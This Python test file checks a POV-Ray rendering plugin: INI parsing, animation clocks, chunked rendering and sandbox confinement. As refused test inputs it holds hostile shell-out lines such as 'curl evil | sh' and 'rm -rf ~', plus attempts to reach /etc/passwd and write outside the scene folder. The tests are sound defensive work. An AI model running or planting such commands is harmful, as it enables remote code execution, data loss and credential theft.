"""The POV-Ray plugin against the real povray: INI reading, clocks, chunks, confinement."""

from __future__ import annotations

import io
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from PIL import Image

from peerfarm.job_request import JobRequest
from peerfarm.renderers.base import RendererError, output_pattern
from peerfarm.renderers.povray import PovrayRenderer
from peerfarm.renderers.povray import plugin as plugin_module
from peerfarm.renderers.povray.ini import IniError, f32, load_scene, parse_ini
from peerfarm.renderers.povray.sandbox import elf_interpreter, unavailable_reason

if shutil.which("povray") is None:
    if os.environ.get("CI"):
        # CI installs POV-Ray: a missing povray there is a broken setup, not a reason to skip.
        pytest.fail(
            "povray is not installed, but CI is set: the CI job must install POV-Ray "
            "(apt-get install povray) so that these tests run",
            pytrace=False,
        )
    pytest.skip(
        "povray is not installed (Debian/Ubuntu: apt-get install povray)", allow_module_level=True
    )

NO_SANDBOX = unavailable_reason()
needs_sandbox = pytest.mark.skipif(
    NO_SANDBOX is not None and not os.environ.get("CI"),  # in CI: run, and fail loudly
    reason=f"POV-Ray cannot be confined here: {NO_SANDBOX}",
)

SIZE = (64, 48)
CLOCK_LINE = re.compile(r"CLOCK (\d+) (\S+)")
DEBUG_CLOCK = '#debug concat("CLOCK ", str(frame_number, 0, 0), " ", str(clock, 0, 20), "\\n")\n'
BALL_SCENE = (
    "#version 3.7;\n"
    '#include "colors.inc"\n'  # a standard include: found through POV-Ray's library path
    '#include "inc/ball.inc"\n'  # the scene's own include, in a subfolder
    "global_settings { assumed_gamma 1.0 }\n"
    + DEBUG_CLOCK
    + "camera { location <0, 1, -4> look_at <0, 0.5, 0> }\n"
    "light_source { <3, 5, -4> color White }\n"
    'plane { y, 0 pigment { image_map { png "textures/checks.png" } rotate x*90 scale 2 } }\n'
    "object { Ball pigment { rgb <clock, 0.4, 1 - clock> } }\n"
)
BALL_INC = "#declare Ball = sphere { <0, 0.8, 0>, 0.8 translate x*(clock - 0.5) }\n"


def checks_png() -> bytes:
    image = Image.new("RGB", (8, 8))
    for x in range(8):
        for y in range(8):
            image.putpixel((x, y), (255, 255, 255) if (x + y) % 2 else (30, 60, 90))
    data = io.BytesIO()
    image.save(data, format="PNG")
    return data.getvalue()


def ball_files(ini: str) -> dict[str, bytes]:
    return {
        "scene.ini": ini.encode(),
        "scene.pov": BALL_SCENE.encode(),
        "inc/ball.inc": BALL_INC.encode(),
        "textures/checks.png": checks_png(),
    }


def write_files(folder: Path, files: dict[str, bytes]) -> Path:
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return folder


def job(main: str, options: list[str] | None = None, size: tuple[int, int] | None = SIZE):
    width, height = size or (None, None)
    return SimpleNamespace(main=main, options=options or [], width=width, height=height)


def run_chunk(work_dir: Path, out_dir: Path, the_job, first: int, last: int):
    """Run the plugin's command for one chunk as the worker does (cwd = the job folder)."""
    pattern = output_pattern(out_dir, "ball")
    command = PovrayRenderer().chunk_command(the_job, range(first, last + 1), work_dir, pattern)
    result = subprocess.run(command, cwd=work_dir, capture_output=True, text=True, timeout=120)
    return result, pattern


def povray_clocks(folder: Path, ini_text: str) -> dict[int, float]:
    """frame_number -> clock, as printed by the real povray rendering the INI directly."""
    (folder / "c.pov").write_text(DEBUG_CLOCK + "camera { location -z look_at 0 }\n")
    (folder / "c.ini").write_text(ini_text)
    # -F: no image file; +W4 +H3: the clock does not depend on the size.
    result = subprocess.run(
        ["povray", "c.ini", "-D", "-F", "+W4", "+H3"],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    return {int(m[1]): f32(float(m[2])) for m in CLOCK_LINE.finditer(result.stderr)}


# --- probing ---


def test_probe_reports_the_installed_version():
    version = plugin_module.povray_version()
    assert version is not None and re.fullmatch(r"3\.[78](\.\d+)+", version)
    assert PovrayRenderer().probe() == (version if NO_SANDBOX is None else None)


def test_probe_without_povray_or_with_a_hanging_one_says_none(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))
    assert PovrayRenderer().probe() is None  # not installed
    fake = tmp_path / "povray"
    fake.write_text("#!/bin/sh\nsleep 30\n")
    fake.chmod(0o755)
    monkeypatch.setattr(plugin_module, "PROBE_TIMEOUT", 0.5)
    started = time.monotonic()
    assert PovrayRenderer().probe() is None  # hangs: given up on, not waited for
    assert time.monotonic() - started < 5


# --- INI syntax and POV-Ray's clock ---


def test_ini_syntax_comments_switches_quotes_and_sections():
    text = (
        "\ufeff; a comment line\n"
        "   # another comment\n"
        "input_file_name = 'my scene.pov'  ; comment after the value\n"
        "WIDTH=320\n"
        "+H200 +KFI2 +kff9 -A ; switches, case-insensitive\n"
        "Antialias_Threshold=0.3 # comment\n"
        "+A0.1\n"  # later wins: antialias on again, threshold 0.1
        "Cyclic_Animation=yes\n"
        "Declare=Speed=2.5\n"
        "[Other]\n"  # POV-Ray reads no named section when given no section name
        "Width=999\n"
    )
    scene = load_scene("scene.ini", text, {"my scene.pov"})
    assert scene.input_file == "my scene.pov"
    assert (scene.value("Width"), scene.value("Height")) == ("320", "200")
    assert (scene.value("Antialias"), scene.value("Antialias_Threshold")) == ("on", "0.1")
    assert scene.value("Cyclic_Animation") == "on"
    assert scene.value("Declare") == "Speed=2.5"
    assert scene.frame_range == (2, 9)
    # The job's size overrides the INI's.
    assert load_scene("scene.ini", text, {"my scene.pov"}, size=(64, 48)).value("Width") == "64"
    # A still image from a lone .pov: frame 1, POV-Ray's own default size.
    still = load_scene("a.pov", "", {"a.pov"})
    assert still.animation is None and still.frame_range == (1, 1)
    assert (still.value("Width"), still.value("Height")) == ("160", "120")


def test_clock_rule_by_hand():
    def clocks(ini: str) -> list[float]:
        scene = load_scene("s.ini", "Input_File_Name=s.pov\n" + ini, {"s.pov"})
        first, last = scene.frame_range
        return [scene.clock(n) for n in range(first, last + 1)]

    assert clocks("Initial_Frame=1\nFinal_Frame=5\n") == [0, 0.25, 0.5, 0.75, 1]
    # Cyclic: the last frame stops one step short of Final_Clock, so the loop closes.
    assert clocks("Initial_Frame=1\nFinal_Frame=4\nCyclic_Animation=on\n") == [0, 0.25, 0.5, 0.75]
    # POV-Ray computes in single precision: 2/11 is 0.18181818723678589, not 0.181818...18.
    assert clocks("Initial_Frame=1\nFinal_Frame=12\n")[2] == 0.1818181872367859
    assert clocks("Initial_Frame=1\nFinal_Frame=20\nSubset_Start_Frame=0.5\nSubset_End_Frame=12\n")[
        :1
    ] == [f32(9 / 19)]


@pytest.mark.parametrize(
    "ini",
    [
        # Subsets keep each povray run to a few frames; the clock still spans the whole range.
        "Initial_Frame=1\nFinal_Frame=12\nSubset_End_Frame=4\n",
        "Initial_Frame=0\nFinal_Frame=9\nInitial_Clock=-1.7\nFinal_Clock=3.14159\n"
        "Cyclic_Animation=on\nSubset_Start_Frame=7\n",
        "Initial_Frame=5\nFinal_Frame=23\nInitial_Clock=1e-3\nFinal_Clock=123.456\n"
        "Subset_Start_Frame=0.3\nSubset_End_Frame=0.45\n",
        "+KFI3 +KFF17 +KI0.7 +KF0.2 +KC +SF15 +EF18\n",
    ],
    ids=["plain", "cyclic", "subset-fractions", "switches-cyclic-subset"],
)
def test_clock_and_frame_range_match_the_real_povray(tmp_path, ini):
    text = "Input_File_Name=c.pov\n" + ini
    scene = load_scene("c.ini", text, {"c.pov"})
    first, last = scene.frame_range
    expected = {frame: scene.clock(frame) for frame in range(first, last + 1)}
    assert povray_clocks(tmp_path, text) == expected  # same frames, bit-identical clocks


# --- checking a job ---


def spec(files: dict[str, bytes], main: str = "scene.ini", **more) -> JobRequest:
    return JobRequest(files=files, main=main, **more)


def test_check_job_returns_the_scenes_frame_range():
    ini = "Input_File_Name=scene.pov\nInitial_Frame=1\nFinal_Frame=24\n"
    files = {"scene.ini": ini.encode(), "scene.pov": b""}
    assert PovrayRenderer().check_job(spec(files)) == (1, 24)
    subset = ini + "Subset_Start_Frame=5\nSubset_End_Frame=8\n"
    assert PovrayRenderer().check_job(spec({**files, "scene.ini": subset.encode()})) == (5, 8)
    assert PovrayRenderer().check_job(spec(files, frames=[3, 30])) == (1, 24)  # beyond: as +EF
    assert PovrayRenderer().check_job(spec({"a.pov": b""}, main="a.pov")) == (1, 1)


@pytest.mark.parametrize(
    ("files", "main", "extra", "message"),
    [
        ({}, "scene.ini", {}, "no scene files"),
        ({"a.pov": b""}, "scene.ini", {}, "'scene.ini' is not in the scene package"),
        ({"a.blend": b""}, "a.blend", {}, "must be a .pov or .ini file"),
        ({"scene.ini": b"Width=64\n"}, "scene.ini", {}, "names no Input_File_Name"),
        (
            {"scene.ini": b"Input_File_Name=missing.pov\n", "a.pov": b""},
            "scene.ini",
            {},
            "scene.ini line 1: Input_File_Name 'missing.pov' is not in the scene package",
        ),
        (
            {"scene.ini": b"Input_File_Name=scene.pov\n", "Scene.pov": b""},
            "scene.ini",
            {},
            "did you mean 'Scene.pov'",
        ),
        (
            {"scene.ini": b"Input_File_Name=/etc/passwd\n"},
            "scene.ini",
            {},
            "points outside the scene folder",
        ),
        (
            {"scene.ini": b"Input_File_Name=a.pov\nInitial_Frame=9\nFinal_Frame=3\n", "a.pov": b""},
            "scene.ini",
            {},
            "Final_Frame 3 is before Initial_Frame 9",
        ),
        (
            {"scene.ini": b"Input_File_Name=a.pov\n+KFI5 +KFF5\n", "a.pov": b""},
            "scene.ini",
            {},
            "clock would be NaN",
        ),
        (
            {
                "scene.ini": b"Input_File_Name=a.pov\n+KFI1 +KFF9\n+SF6 +EF2\n",
                "a.pov": b"",
            },
            "scene.ini",
            {},
            "the subset ends at frame 2, before it starts at frame 6",
        ),
        (
            {"scene.ini": b"Input_File_Name=a.pov\nInitial_Frame=-2\n", "a.pov": b""},
            "scene.ini",
            {},
            "line 2: Initial_Frame=-2: expected a whole number from 0",
        ),
        (
            {"scene.ini": b"Input_File_Name=a.pov\n+KFI4 +KFF9\n", "a.pov": b""},
            "scene.ini",
            {"frames": [1, 9]},
            "frame 1 is before the animation's first frame",
        ),
        ({"a.pov": b""}, "a.pov", {"frames": [1, 3]}, "is a still image"),
        (
            {"scene.ini": b"Input_File_Name=a.pov\nother.ini\n", "a.pov": b""},
            "scene.ini",
            {},
            "line 2: Include_Ini=other.ini is not allowed: POV-Ray would read that INI file too",
        ),
    ],
)
def test_check_job_errors_say_what_to_do(files, main, extra, message):
    with pytest.raises(RendererError, match=re.escape(message)):
        PovrayRenderer().check_job(spec(files, main, **extra))


# --- the allow-lists ---


def test_allowed_options_reach_povrays_ini():
    files = {"a.pov": b""}
    options = ["+A0.3", "Antialias_Depth=3", "+Q9", "-D", "Display=off", "+WT2", "+FN16", "-J"]
    assert PovrayRenderer().check_job(spec(files, "a.pov", options=options)) == (1, 1)
    scene = load_scene("a.pov", "", files, options)
    ini = scene.chunk_ini(range(1, 2), "/work/out/frame.png")
    for line in (
        "Antialias=on",
        "Antialias_Threshold=0.3",
        "Antialias_Depth=3",
        "Quality=9",
        "Work_Threads=2",
        "Output_File_Type=N",  # +FN16: PNG with 16 bits per colour
        "Bits_Per_Color=16",
        "Jitter=off",
        'Output_File_Name="/work/out/frame.png"',
        "Display=off",
    ):
        assert line in ini.splitlines()


@pytest.mark.parametrize(
    "option",
    [
        "+I/etc/x",
        "Input_File_Name=other.pov",
        "Output_File_Name=x.png",
        "+O/tmp/x.png",
        "Library_Path=/",
        "+L/",
        "Pre_Scene_Command=touch /tmp/pwned",
        "Post_Frame_Command=rm -rf ~",
        "Shellout=on",
        "+GI/tmp/x.ini",
        "Debug_File=/tmp/x.log",
        "Width=640",
        "+KFF100",
        "+D",
        "Output_File_Type=T",
        "+FJ",
        "-F",
        "Frame_Step=2",
        "Include_Ini=other.ini",
        "+A0.3\n+L/",
        "Verbose=on",
    ],
)
def test_forbidden_options_are_refused_by_name(option):
    with pytest.raises(RendererError) as refused:
        PovrayRenderer().check_job(spec({"a.pov": b""}, "a.pov", options=[option]))
    assert f"option {option.strip()!r}" in str(refused.value)


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("Pre_Frame_Command=curl evil | sh", "shell-out commands would run programs"),
        ("+L/etc", "Library_Path=/etc is not allowed: it reaches outside the scene folder"),
        ("Library_Path=../..", "reaches outside the scene folder"),
        ("Include_Header=/etc/passwd", "reaches outside the scene folder"),
        ("Include_Ini=other.ini", "peerfarm reads and checks only the main INI"),
        ("Pretty_Colours=on", "'Pretty_Colours' is not a setting POV-Ray 3.7 knows"),
        ("+Z", "POV-Ray 3.7 has no switch +Z"),
    ],
)
def test_forbidden_ini_lines_are_refused_with_their_line(line, message):
    ini = f"Input_File_Name=a.pov\n{line}\n"
    with pytest.raises(RendererError, match=re.escape(message)) as refused:
        PovrayRenderer().check_job(spec({"scene.ini": ini.encode(), "a.pov": b""}))
    assert "scene.ini line 2" in str(refused.value)


def test_parse_ini_reports_the_line_of_a_bad_value():
    with pytest.raises(IniError, match=r"s\.ini line 3: Width=wide: expected a whole number"):
        parse_ini("; x\nHeight=4\nWidth=wide\n", "s.ini")


# --- the plugin's command ---


def test_chunk_command_and_frame_lines(tmp_path):
    plugin = PovrayRenderer()
    command = plugin.chunk_command(
        job("scene.ini", ["-D", "+A0.3"]), range(3, 6), tmp_path, "/out/x_{frame:04d}.png"
    )
    assert command[:3] == [sys.executable, "-m", "peerfarm.renderers.povray.run"]
    assert "--frames=3-5" in command
    assert command[command.index("--size") + 1] == "64x48"
    assert "--option=-D" in command and "--option=+A0.3" in command
    assert "--size" not in plugin.chunk_command(job("s.pov", size=None), range(1, 2), tmp_path, "x")
    assert plugin.frame_finished("FRAME 3 /out/x_0003.png")
    assert not plugin.frame_finished("START 3")
    with pytest.raises(RendererError, match="main scene file"):
        plugin.prepare(job("scene.ini"), tmp_path)  # not unpacked there
    (tmp_path / "scene.ini").write_text("")
    plugin.prepare(job("scene.ini"), tmp_path)


def test_a_frame_counts_as_written_only_as_a_whole_png(tmp_path):
    """The wrapper moves a frame as soon as POV-Ray has printed its statistics, but only
    a PNG that ends in its IEND chunk: never one POV-Ray is still writing."""
    from peerfarm.renderers.povray import run

    scene = load_scene("scene.ini", "Input_File_Name=scene.pov\n", {"scene.pov"})
    path = tmp_path / scene.output_name(1)
    assert not run._written(scene, tmp_path, 1)  # not there yet
    whole = checks_png()
    for cut in (len(whole) // 2, len(whole) - 1):
        path.write_bytes(whole[:cut])
        assert not run._written(scene, tmp_path, 1)
    path.write_bytes(whole)
    assert run._written(scene, tmp_path, 1)
    tga = load_scene("scene.ini", "Input_File_Name=scene.pov\n", {"scene.pov"}, fmt="tga")
    (tmp_path / tga.output_name(1)).write_bytes(whole)
    assert not run._written(tga, tmp_path, 1)  # other formats: once povray moved on


# --- rendering with the real povray ---


@needs_sandbox
def test_chunks_are_pixel_identical_to_one_direct_run(tmp_path):
    ini = (
        "Input_File_Name=scene.pov\nWidth=64\nHeight=48\n"
        "Initial_Frame=1\nFinal_Frame=6\nAntialias=on\nAntialias_Threshold=0.3\n"
    )
    files = ball_files(ini)
    assert PovrayRenderer().check_job(spec(files)) == (1, 6)
    direct_dir = write_files(tmp_path / "direct", files)
    direct = subprocess.run(
        ["povray", "scene.ini", "-D", "+Odirect.png"],
        cwd=direct_dir,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert direct.returncode == 0, direct.stderr[-2000:]
    work_dir = write_files(tmp_path / "work", files)
    out_dir = tmp_path / "frames"
    clocks: dict[int, float] = {}
    for first, last in ((1, 2), (3, 5), (6, 6)):
        result, pattern = run_chunk(work_dir, out_dir, job("scene.ini"), first, last)
        assert result.returncode == 0, result.stderr[-3000:]
        finished = re.findall(r"^FRAME (\d+) (.+)$", result.stdout, re.MULTILINE)
        assert finished == [(str(n), pattern.format(frame=n)) for n in range(first, last + 1)]
        clocks.update((int(m[1]), f32(float(m[2]))) for m in CLOCK_LINE.finditer(result.stderr))
    scene = load_scene("scene.ini", ini, set(files))
    assert clocks == {n: scene.clock(n) for n in range(1, 7)}
    pixels = []
    for n in range(1, 7):
        ours = np.asarray(Image.open(out_dir / f"ball_{n:04d}.png"))
        theirs = np.asarray(Image.open(direct_dir / f"direct{n}.png"))
        assert ours.shape == (48, 64, 3)
        assert np.array_equal(ours, theirs), f"frame {n} differs from the direct run"
        pixels.append(ours)
    assert not np.array_equal(pixels[0], pixels[-1])  # the clock really moves the scene
    assert sorted(p.name for p in work_dir.iterdir()) == [
        "inc",
        "scene.ini",
        "scene.pov",
        "textures",
    ]


@needs_sandbox
def test_a_scene_in_a_subfolder_runs_from_its_own_folder(tmp_path):
    # An archive whose files all sit in one folder: the INI and its scene use names
    # relative to that folder, as when the user runs `povray scene.ini` there.
    ini = "Input_File_Name=scene\nWidth=32\nHeight=24\nInitial_Frame=1\nFinal_Frame=3\n"
    files = {f"myscene/{name}": data for name, data in ball_files(ini).items()}
    assert PovrayRenderer().check_job(spec(files, "myscene/scene.ini")) == (1, 3)
    work_dir = write_files(tmp_path / "work", files)
    result, pattern = run_chunk(
        work_dir, tmp_path / "frames", job("myscene/scene.ini", size=None), 3, 3
    )
    assert result.returncode == 0, result.stderr[-3000:]
    assert Image.open(pattern.format(frame=3)).size == (32, 24)
    outside = {**files, "myscene/scene.ini": b"Input_File_Name=../../scene.pov\n"}
    with pytest.raises(RendererError, match="points outside the scene folder"):
        PovrayRenderer().check_job(spec(outside, "myscene/scene.ini"))


@needs_sandbox
def test_names_that_are_not_ascii_render_like_any_other(tmp_path):
    """POV-Ray 3.7 reads a file name only up to its first non-ASCII character: a node
    whose data folder was /srv/rendu/données could not write a frame ("Output file
    /srv/rendu/d .png"), and a scene named "Scène finale (v2).pov" could not be opened
    ("Cannot find file 'Sc '"): every chunk failed."""
    files = {
        f"plan é/{'Scène finale (v2).pov' if name == 'scene.pov' else name}": data
        for name, data in ball_files("").items()
        if name != "scene.ini"
    }
    main = "plan é/Scène finale (v2).pov"
    work_dir = write_files(tmp_path / "données" / "work", files)
    out_dir = tmp_path / "données" / "frames"
    for _ in range(2):  # (the second chunk finds the copy the first one made)
        result, pattern = run_chunk(work_dir, out_dir, job(main), 1, 1)
        assert result.returncode == 0, result.stderr[-3000:]
        assert Image.open(pattern.format(frame=1)).size == SIZE
    direct = write_files(tmp_path / "direct", ball_files(""))
    subprocess.run(
        ["povray", "scene.pov", f"+W{SIZE[0]}", f"+H{SIZE[1]}", "-D", "+Odirect.png"],
        cwd=direct,
        capture_output=True,
        timeout=120,
        check=True,
    )
    ours = np.asarray(Image.open(pattern.format(frame=1)))
    assert np.array_equal(ours, np.asarray(Image.open(direct / "direct.png")))


@needs_sandbox
def test_scene_reads_and_writes_only_inside_its_folder(tmp_path):
    outside = tmp_path / "outside.txt"
    scenes = {
        "inside.pov": (
            '#fopen In "data/values.txt" read\n#read (In, V)\n#fclose In\n'
            '#fopen Out "data/written.txt" write\n#write (Out, "ok\\n")\n#fclose Out\n'
            '#debug concat("VALUE ", str(V, 0, 2), "\\n")\n'
        ),
        "passwd.pov": (
            '#fopen F "/etc/passwd" read\n#read (F, S)\n#debug concat("READ ", S, "\\n")\n'
        ),
        "write.pov": f'#fopen F "{outside}" write\n#write (F, "pwned\\n")\n#fclose F\n',
    }
    camera = "camera { location -z look_at 0 }\n"
    files = {name: (text + camera).encode() for name, text in scenes.items()}
    files["data/values.txt"] = b"42\n"
    # A povray.ini in the scene folder must not reach POV-Ray (it could set anything).
    files["povray.ini"] = b"Height=7\nPost_Scene_Command=touch pwned\n"
    work_dir = write_files(tmp_path / "work", files)
    out_dir = tmp_path / "frames"

    result, pattern = run_chunk(work_dir, out_dir, job("inside.pov"), 1, 1)
    assert result.returncode == 0, result.stderr[-3000:]
    assert "VALUE 42.00" in result.stderr
    assert (work_dir / "data/written.txt").read_text() == "ok\n"
    assert Image.open(pattern.format(frame=1)).size == SIZE
    assert not (work_dir / "pwned").exists()

    result, _ = run_chunk(work_dir, out_dir, job("passwd.pov"), 1, 1)
    assert result.returncode != 0
    assert "Cannot open user file /etc/passwd" in result.stderr
    assert "READ root" not in result.stderr

    result, _ = run_chunk(work_dir, out_dir, job("write.pov"), 1, 1)
    assert result.returncode != 0
    assert "Cannot open user file" in result.stderr  # POV-Ray wraps the path: not matched
    assert not outside.exists()


@needs_sandbox
def test_frame_lines_are_utf8_in_a_code_page_without_the_paths_letters(tmp_path):
    """A pipe in cp1252 (a Western European Windows) and a data folder named Michał."""
    work_dir = write_files(tmp_path / "work", {"still.pov": b"camera { location -z look_at 0 }\n"})
    pattern = str(tmp_path / "Michał" / "ball_{frame:04d}.png")
    command = PovrayRenderer().chunk_command(job("still.pov"), range(1, 2), work_dir, pattern)
    env = {**os.environ, "PYTHONIOENCODING": "cp1252", "PYTHONUTF8": "0"}
    result = subprocess.run(command, cwd=work_dir, capture_output=True, env=env, timeout=120)
    assert result.returncode == 0, result.stderr.decode("utf-8", "replace")[-2000:]
    frame = tmp_path / "Michał" / "ball_0001.png"
    assert frame.is_file()
    assert result.stdout.decode("utf-8").splitlines() == ["START 1", f"FRAME 1 {frame}"]


@needs_sandbox
def test_a_syntax_error_fails_the_chunk_with_povrays_message(tmp_path):
    files = {"bad.pov": b"camera { location -z look_at 0 }\nsphere { 0, 1 pigment { rgb 1 }\n"}
    work_dir = write_files(tmp_path / "work", files)
    result, _ = run_chunk(work_dir, tmp_path / "frames", job("bad.pov"), 1, 1)
    assert result.returncode != 0
    assert "Parse Error" in result.stderr and "No matching }" in result.stderr
    assert "FRAME" not in result.stdout
    assert "povray failed with exit status" in result.stderr.splitlines()[-1]


def test_run_refuses_a_bad_job_with_status_2(tmp_path):
    work_dir = write_files(tmp_path / "work", {"a.pov": b""})
    result, _ = run_chunk(work_dir, tmp_path / "frames", job("a.pov", ["+L/"]), 1, 1)
    assert result.returncode == 2
    assert "Library_Path is not allowed" in result.stderr
    result, _ = run_chunk(work_dir, tmp_path / "frames", job("a.pov"), 1, 3)
    assert result.returncode == 2 and "is a still image" in result.stderr


def _children(pid: int) -> list[int]:
    text = Path(f"/proc/{pid}/task/{pid}/children").read_text()
    return [int(child) for child in text.split()]


def _gone(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return True
    return state in ("Z", "X")  # a zombie nobody reaped yet is dead, too


@needs_sandbox
@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="needs Linux /proc")
@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGKILL])
def test_stopping_the_wrapper_stops_povray(tmp_path, how):
    mirror = "pigment { rgb 1 } finish { reflection 0.9 }"
    slow = "camera { location -z look_at 0 }\n" + "".join(
        f"sphere {{ <{i % 7 - 3}, {i % 5 - 2}, {i}>, 0.5 {mirror} }}\n" for i in range(200)
    )
    ini = "Input_File_Name=slow.pov\nInitial_Frame=1\nFinal_Frame=100\n+A0.0 +R9\n"
    work_dir = write_files(tmp_path / "work", {"slow.ini": ini.encode(), "slow.pov": slow.encode()})
    command = PovrayRenderer().chunk_command(
        job("slow.ini", size=(1600, 1200)), range(1, 100), work_dir, str(tmp_path / "f{frame}.png")
    )
    wrapper = subprocess.Popen(
        command, cwd=work_dir, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
    )
    try:
        assert wrapper.stdout is not None
        assert wrapper.stdout.readline().startswith("START 1")
        (povray,) = _children(wrapper.pid)
        wrapper.send_signal(how)
        status = wrapper.wait(timeout=10)
        assert status == (128 + signal.SIGTERM if how == signal.SIGTERM else -signal.SIGKILL)
        deadline = time.monotonic() + 10
        while not _gone(povray) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _gone(povray), "povray outlived the wrapper"
    finally:
        wrapper.kill()
        wrapper.wait()


def test_elf_interpreter_of_povray():
    povray = Path(shutil.which("povray") or "").resolve()
    interpreter = elf_interpreter(povray)
    assert interpreter is None or Path(interpreter).exists()
    assert elf_interpreter(Path(__file__)) is None
